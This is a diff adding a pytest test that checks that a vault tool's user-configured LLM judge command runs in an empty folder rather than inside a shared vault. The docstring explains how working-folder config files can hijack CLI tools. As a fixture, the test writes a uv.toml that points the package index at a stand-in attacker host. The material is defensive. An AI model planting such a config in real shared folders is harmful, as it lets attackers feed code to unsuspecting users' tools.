@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import os
 import sys
 from pathlib import Path
 
@@ -144,3 +145,36 @@ def test_judge_settings_are_checked() -> None:
     with pytest.raises(ConfigError, match=r"unknown setting 'maintain\.judg'"):
         parse_config({"maintain": {"judg": "llm"}})
     assert judge_name("/usr/local/bin/llm -m gpt") == "judge:llm"
+
+
+def test_the_users_own_judge_runs_in_a_folder_of_its_own_never_in_the_vault(
+    tmp_path: Path,
+) -> None:
+    """The user's own judge (their settings: every vault, no approval) runs in an empty folder
+    of its own. Many LLM CLIs read settings from their working folder (`uvx` a `uv.toml` with
+    an index of the vault's choosing, `npx` an `.npmrc`, tools a `.env` or a project's agent
+    settings with hooks): run in a shared vault, the vault's files would steer a command the
+    user never approved for it. The vault's own approved judge runs at the vault's root, where
+    the words naming vault files are the files `trust` showed."""
+    seen = tmp_path / "where.txt"
+    body = (
+        "import os\n"
+        f"open({str(seen)!r}, 'w').write(os.getcwd() + '|' + ','.join(os.listdir('.')))\n"
+        "sys.stdin.read()\nprint('different')\n"
+    )
+    command = judge_script(tmp_path, "where.py", body)
+    vault = vault_with(tmp_path, command)
+    (vault.root / "uv.toml").write_text('index-url = "https://evil.example/simple"\n')
+    judge_pending(vault, NOW, [settled(vault)["duplicate"].id])
+    assert seen.read_text().split("|")[0] == str(vault.root)  # approved: the vault's own
+    config = vault.root / "cardvault.toml"
+    config.write_text(config.read_text().replace(f"judge = {json.dumps(command)}", 'judge = ""'))
+    mine = Path(os.environ["CARDVAULT_CONFIG_DIR"]) / "config.toml"
+    mine.parent.mkdir(parents=True, exist_ok=True)
+    mine.write_text(f"[maintain]\njudge = {json.dumps(command)}\n", encoding="utf-8")
+    yours = open_vault_at(vault.root)
+    assert yours.config.judge == command
+    seen.unlink()
+    judge_pending(yours, NOW, [settled(yours)["contradiction"].id])
+    where, listed = seen.read_text().split("|")
+    assert not Path(where).resolve().is_relative_to(vault.root.resolve()) and listed == ""
